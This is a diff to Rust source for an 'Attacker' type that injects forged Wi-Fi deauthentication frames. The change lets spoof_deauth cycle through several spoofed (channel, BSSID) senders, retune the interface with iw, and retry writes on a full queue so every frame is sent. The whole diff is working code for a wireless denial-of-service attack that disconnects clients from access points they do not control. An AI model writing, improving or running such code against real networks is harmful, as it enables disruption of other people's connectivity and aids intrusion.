@@ -59,38 +59,61 @@ impl Attacker {
         Ok(Attacker { iface, socket, sequence: 0 })
     }
 
-    /// Sends `count` deauthentications to `station` in `bssid`'s name on `channel`.
+    /// Sends `count` deauthentications to `station`, in the name of each of `senders`
+    /// (channel, BSSID) in turn.
     pub fn spoof_deauth(
         &mut self,
-        channel: u8,
+        senders: &[(u8, String)],
         station: &str,
-        bssid: &str,
         reason: u16,
         count: u32,
         interval: Duration,
     ) -> Result<()> {
-        process::run(paths::IW, &["dev", &self.iface, "set", "channel", &channel.to_string()])?;
-        let (station, bssid) = (parse_mac(station)?, parse_mac(bssid)?);
-        for _ in 0..count {
-            let frame = deauth_frame(station, bssid, reason, self.sequence);
-            self.sequence = (self.sequence + 1) & 0x0fff;
-            // SAFETY: write(2) of an initialised buffer on our socket.
-            let sent =
-                unsafe { libc::write(self.socket.as_raw_fd(), frame.as_ptr().cast(), frame.len()) };
-            if sent < 0 {
-                let err = std::io::Error::last_os_error();
-                // A full queue under a storm: the air is saturated, wait for it.
-                if err.raw_os_error() == Some(libc::ENOBUFS) {
-                    thread::sleep(Duration::from_millis(1));
-                    continue;
-                }
-                return Err(err).context("injecting a frame");
-            }
+        let station = parse_mac(station)?;
+        let senders: Vec<(u8, [u8; 6])> = senders
+            .iter()
+            .map(|(channel, bssid)| Ok((*channel, parse_mac(bssid)?)))
+            .collect::<Result<_>>()?;
+        let mut tuned = None;
+        for (_, &(channel, bssid)) in (0..count).zip(senders.iter().cycle()) {
+            self.send_deauth(channel, &mut tuned, station, bssid, reason)?;
             if !interval.is_zero() {
                 thread::sleep(interval);
             }
         }
         Ok(())
+    }
+
+    /// One frame, on `channel`; a full queue (the air is saturated) is waited out, so every
+    /// frame counted goes out.
+    fn send_deauth(
+        &mut self,
+        channel: u8,
+        tuned: &mut Option<u8>,
+        station: [u8; 6],
+        bssid: [u8; 6],
+        reason: u16,
+    ) -> Result<()> {
+        if *tuned != Some(channel) {
+            let channel_text = channel.to_string();
+            process::run(paths::IW, &["dev", &self.iface, "set", "channel", &channel_text])?;
+            *tuned = Some(channel);
+        }
+        let frame = deauth_frame(station, bssid, reason, self.sequence);
+        self.sequence = (self.sequence + 1) & 0x0fff;
+        loop {
+            // SAFETY: write(2) of an initialised buffer on our socket.
+            let sent =
+                unsafe { libc::write(self.socket.as_raw_fd(), frame.as_ptr().cast(), frame.len()) };
+            if sent >= 0 {
+                return Ok(());
+            }
+            let err = std::io::Error::last_os_error();
+            if err.raw_os_error() != Some(libc::ENOBUFS) {
+                return Err(err).context("injecting a frame");
+            }
+            thread::sleep(Duration::from_millis(1));
+        }
     }
 }
 
